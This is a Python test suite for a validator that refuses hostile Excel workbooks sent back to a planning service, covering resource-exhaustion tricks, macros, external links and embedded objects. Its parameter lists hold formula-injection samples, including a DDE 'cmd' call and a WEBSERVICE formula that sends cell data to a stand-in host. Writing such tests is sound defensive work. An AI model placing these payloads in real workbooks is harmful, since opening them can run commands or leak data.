"""Workbooks made to exhaust the machine, or to smuggle something into the next export: refused with a reason."""

from __future__ import annotations

import io
import struct
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

from exchange.archives import note_unreadable
from exchange.project_plan.columns import SHEET
from exchange.project_plan.identity import SHEET as IDENTITY
from exchange.returned_plan.leadership import NAMES
from exchange.returned_plan.own_sheets import own_sheets
from exchange.returned_plan.reading import returned_list
from exchange.returned_plan.writing import written_on
from exchange.workbooks import LEADERSHIP_FOOTER, full_workbook, leadership_report
from surveys.faults import FaultsError
from tests.corpus.workbooks import with_part
from tests.exchange.returned_edits import list_alone, small_plan
from tests.exchange.test_returned_plan_bad_files import changed, faults_of, on_list, with_more, with_rows
from tests.exchange.workbook_sample import sample_report

MINE = "Mine"
MINE_PART = "xl/worksheets/sheet3.xml"
WORKBOOK, RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = b"http://schemas.microsoft.com/office/2006/relationships/"


def said(content: bytes) -> str:
    """Why a file is refused."""
    return "\n".join(map(str, faults_of(content)))


def with_mine(xml: bytes = b"") -> bytes:
    """The list and an own sheet that ends with some XML."""

    def add(book: Workbook) -> None:
        book.create_sheet(MINE)["A1"] = 1

    return with_part(
        changed(add), MINE_PART, lambda part: part.replace(b"</sheetData>", b"</sheetData>" + xml, 1)
    )


def with_formula(formula: str) -> bytes:
    """The list and an own sheet with a formula in B2."""

    def add(book: Workbook) -> None:
        book.create_sheet(MINE)["B2"] = f"={formula}"

    return changed(add)


def with_text(part: str, before: bytes, more: bytes) -> bytes:
    """A whole plan with something put before a mark of a part."""
    return with_part(small_plan()[1], part, lambda xml: xml.replace(before, more + before, 1))


def related(kind: bytes, target: bytes, more: bytes = b"") -> bytes:
    """The list with one more relation of the workbook."""
    relation = b'<Relationship Id="rId900" Type="%s" Target="%s"%s/>' % (kind, target, more)
    return with_part(
        list_alone(), RELATIONS, lambda xml: xml.replace(b"</Relationships>", relation + b"</Relationships>")
    )


def test_long_words_in_relations_and_long_blanks_in_cells_are_read_once() -> None:
    word = b"<!--<Relationship " + b"x" * 200_000 + b">-->"
    content = with_part(
        list_alone(), RELATIONS, lambda xml: xml.replace(b"</Relationships>", word + b"</Relationships>")
    )
    assert returned_list(content, "plan.xlsx") == returned_list(list_alone(), "plan.xlsx")
    blanks = b" \t" * 200_000
    for xml in (b'<row r="9"><c r="A999">%sx</c></row>', b'<row r="999">%sx</row>'):
        found = returned_list(with_rows(xml.replace(b'r="9"', b'r="999"') % blanks), "plan.xlsx")
        assert found.rows == returned_list(list_alone(), "plan.xlsx").rows


@pytest.mark.parametrize("area", ["A1:XFD1048576", "A1:C1048576"])
def test_merged_whole_columns_of_an_own_sheet_are_named_with_a_remedy(area: str) -> None:
    words = said(with_mine(b'<mergeCells><mergeCell ref="%s"/></mergeCells>' % area.encode()))
    assert f"sheet '{MINE}'" in words
    assert area in words
    assert "Unmerge whole columns" in words


def test_links_over_whole_sheets_and_areas_nobody_can_read_are_refused() -> None:
    link = b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
    assert "cover more than 200,000 cells" in said(with_mine(link))
    for ref in (b"A1:A" + b"9" * 5_000, b"ABCDE1:ABCDF9", b"A$1:B2"):
        merged = b'<mergeCells><mergeCell ref="%s"/></mergeCells>' % ref
        assert "place cannot be read" in said(with_mine(merged))


@pytest.mark.parametrize(
    ("part", "before", "one", "count", "words"),
    [
        (WORKBOOK, b"</sheets>", b'<sheet name="x" sheetId="9" r:id="rId1"/>', 256, "255 sheets"),
        (WORKBOOK, b"</definedNames>", b'<definedName name="x">1</definedName>', 5_001, "5,000 names"),
        ("xl/styles.xml", b"</fonts>", b"<font/>", 10_001, "10,000 fonts"),
        ("xl/styles.xml", b"</fonts>", b"<\xc3\xa9:font/>", 10_001, "10,000 fonts"),
        ("xl/sharedStrings.xml", b"</sst>", b"<r><t>x</t></r>", 200_001, "200,000 pieces"),
        ("xl/worksheets/sheet1.xml", b"</worksheet>", b"<cfRule />", 10_001, "10,000 rules for formats"),
        (
            "xl/worksheets/sheet1.xml",
            b"</worksheet>",
            b"<dataValidation />",
            10_001,
            "10,000 rules for entries",
        ),
    ],
)
def test_more_of_something_than_any_plan_has_is_refused_in_every_part(
    part: str, before: bytes, one: bytes, count: int, words: str
) -> None:
    varied = b"".join(one + b"<!--%x-->" % (n * n * 7919) for n in range(count))
    assert words in said(with_text(part, before, varied))


def test_invented_ids_give_no_room_for_more_rows() -> None:
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%08x-0000-4000-8000-%012x</t></is></c></row>'
        % (n, n, n * 7919, n * n)
        for n in range(1_000, 26_100)
    )
    assert "has room for 25,000" in said(with_rows(rows))
    with pytest.raises(FaultsError, match="has room for 25,000"):
        written_on(with_rows(rows), small_plan()[1])


def test_entities_and_sizes_are_looked_at_whatever_a_part_is_called() -> None:
    entity = b'<!DOCTYPE x [<!ENTITY a "lol">]><x/>'
    for name in ("xl/worksheets/sheet3.dat", "xl/worksheets/sheet3.XML"):
        assert "entities" in said(with_more({name: entity}))
    assert "unknown encoding" in said(with_more({"xl/a.dat": "<x/>".encode("utf-16")}))
    assert "unknown encoding" in said(with_more({"xl/a.dat": b'<?xml version="1.0" encoding="cp037"?><x/>'}))


def test_elements_within_elements_without_end_are_refused() -> None:
    deep = b"<a><b>" * 5_000 + b"</b></a>" * 5_000
    assert "as no spreadsheet builds one" in said(with_text("xl/sharedStrings.xml", b"</sst>", deep))


def test_a_part_that_lies_about_its_size_or_comes_twice_is_refused() -> None:
    data = bytearray(with_more({"xl/media/a.bin": bytes(3_000_000)}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 1_000)
    assert "damaged" in said(bytes(data))
    assert "a part twice" in said(with_more({"XL/workbook.xml": b"<workbook/>"}))
    buffer = io.BytesIO(list_alone())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_BZIP2) as target:
        target.writestr("xl/media/a.bin", b"x" * 100)
    assert "damaged" in said(buffer.getvalue())


def test_long_names_formats_and_lists_of_ranges_and_copied_formulas_are_refused() -> None:
    name = b'<definedName name="_xlnm.Print_Titles" localSheetId="0">%s</definedName>' % (b"'" * 2_001)
    assert "a name stands for" in said(with_text(WORKBOOK, b"</definedNames>", name))
    code = b'<numFmts><numFmt numFmtId="300" formatCode="%s"/></numFmts>' % (b"[" * 1_001)
    assert "a number format is longer" in said(with_text("xl/styles.xml", b"<fonts", code))
    ranges = b" ".join(b"A%d" % n for n in range(20_000))
    rule = b'<conditionalFormatting sqref="%s"/>' % ranges
    assert "very many single ranges" in said(with_mine(rule))
    copies = b'<c><f t="shared" si="0"/></c>' * 1_000
    formula = b'<c><f t="shared" si="0" ref="A1:A9">A1%s</f></c>' % (b"+A1" * 2_000)
    assert "a long formula" in said(with_mine(formula + copies))
    assert "a table has no columns" in said(with_more({"xl/tables/t9.xml": b'<table id="9" ref="A1:B2"/>'}))


def test_a_long_note_on_an_own_row_is_searched_once() -> None:
    def change(sheet: Worksheet) -> None:
        row = sheet.max_row + 1
        sheet.cell(row, 2).value = "Own"
        note = Comment("Not in the plan since version " * 20_000, "x")
        sheet.cell(row, 2).comment = note

    book = load_workbook(BytesIO(written_on(on_list(change), small_plan()[1])))
    assert "Own" in [cell.value for cell in book[SHEET]["B"]]


@pytest.mark.parametrize(
    ("kind", "target", "words"),
    [
        (MICROSOFT + b"vbaProject", b"m.bin", "macros"),
        (MICROSOFT + b"xlMacrosheet", b"worksheets/sheet90.xml", "macros"),
        (OFFICE + b"externalLink", b"ext/e1.xml", "links to other workbooks"),
        (OFFICE + b"oleObject", b"embeddings/o.bin", "embedded documents"),
        (OFFICE + b"hyperlink", b"file://host/share/x", "only links to web pages"),
        (OFFICE + b"printerSettings", b"file://host/share/x", "only links to web pages"),
    ],
)
def test_what_runs_or_reaches_out_is_known_by_its_kind_and_not_by_its_path(
    kind: bytes, target: bytes, words: str
) -> None:
    assert words in said(related(kind, target))


def test_pictures_that_stand_elsewhere_are_refused_and_a_renamed_link_to_a_program_too() -> None:
    outside = related(OFFICE + b"image", b"http://host.example/a.png", b' TargetMode="External"')
    assert "a part that stands in another file" in said(outside)
    assert "starts another program" in said(
        with_more({"xl/ext/e1.dat": b'<a><ddeLink ddeService="cmd"/></a>'})
    )


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://host.example/?"&Activities!B5)',
        '_xlfn.IMAGE("http://host.example/a.png")',
        'DDE("soffice","x","y")',
        "cmd|'/c calc'!A0",
        "[1]S!$A$1",
        r"'\\host\share\[b.xlsx]S'!A1",
        'HYPERLINK("file://host/share","Click")',
        'RTD("x",,"y")',
        'CALL("x","y")',
        'REGISTER.ID("x","y")',
    ],
)
def test_a_formula_that_reaches_out_is_named_by_sheet_and_cell(formula: str) -> None:
    words = said(with_formula(formula))
    assert f"sheet '{MINE}', B2: a formula reaches out" in words
    assert "Replace it by its value" in words


def test_a_formula_written_in_pieces_is_seen_as_a_whole() -> None:
    hidden = b"<f>WEB<!-- -->SERV&#73;CE(A1)</f>"
    content = with_rows(b'<row r="900"><c r="Q900">%s</c></row>' % hidden)
    assert "sheet 'Activities', Q900: a formula reaches out" in said(content)


def test_formulas_and_links_of_an_ordinary_workbook_stay() -> None:
    def change(book: Workbook) -> None:
        sheet = book.create_sheet(MINE)
        sheet["A1"] = "=SUM(A2:A9)&\" image (call) | 'x'\""
        sheet["A2"] = '=HYPERLINK("https://example.org","web")'
        sheet["A3"].hyperlink = "https://example.org/a?b=c"
        sheet["A4"].hyperlink = "mailto:ines@example.org"
        sheet["A4"].hyperlink.tooltip = "the preferred reference > ref='A1'"
        sheet["A6"].hyperlink = f"#{SHEET}!A1"
        sheet["A5"] = f"=COUNTA({SHEET}!A5:A9)"

    kept = changed(change)
    book = load_workbook(BytesIO(written_on(kept, small_plan()[1])))
    assert book[MINE]["A3"].hyperlink.target == "https://example.org/a?b=c"
    assert book[MINE]["A4"].hyperlink.target == "mailto:ines@example.org"
    assert book[MINE]["A2"].value == '=HYPERLINK("https://example.org","web")'


@pytest.mark.parametrize("name", [b'name="_xlnm.Auto_Open"', b'name="auto_close"', b'name="x" xlm="1"'])
def test_names_that_run_a_macro_are_refused(name: bytes) -> None:
    defined = b"<definedName %s>Activities!$A$1</definedName>" % name
    assert "a name runs a macro" in said(with_text(WORKBOOK, b"</definedNames>", defined))


def test_a_full_workbook_is_no_plan_that_comes_back() -> None:
    content = full_workbook(sample_report())
    book = load_workbook(BytesIO(content))
    assert IDENTITY not in book.sheetnames
    assert not [each.name for each in book.custom_doc_props.props if each.name.startswith(IDENTITY)]
    words = said(content)
    assert "holds sheets of the leadership report" in words
    assert "Readiness" in words


def test_a_sheet_of_the_leadership_report_does_not_travel_with_the_plan() -> None:
    def change(book: Workbook) -> None:
        sheet = book.create_sheet("Renamed")
        sheet.oddFooter.left.text = LEADERSHIP_FOOTER

    assert "“Renamed”" in said(changed(change))

    def copied(book: Workbook) -> None:
        for name in sorted(NAMES):
            book.create_sheet(name)

    assert "“Evidence”" in said(changed(copied))
    assert set(load_workbook(BytesIO(leadership_report(sample_report()))).sheetnames) <= NAMES


def test_own_sheets_are_told_and_hidden_ones_say_so() -> None:
    def change(book: Workbook) -> None:
        book.create_sheet("Budget")
        book.create_sheet("Waves")
        book.create_sheet("Rooms").sheet_state = "veryHidden"

    assert own_sheets(changed(change)) == ("Budget", "Waves", "Rooms (hidden)")
    assert own_sheets(small_plan()[1]) == ()


def test_why_a_file_could_not_be_read_leaves_a_trace_without_its_contents(
    caplog: pytest.LogCaptureFixture,
) -> None:
    try:
        raise KeyError("the lead of Finance")
    except KeyError as error:
        note_unreadable(error)
    assert "KeyError at test_returned_plan_hostile.py:" in caplog.text
    assert "Finance" not in caplog.text
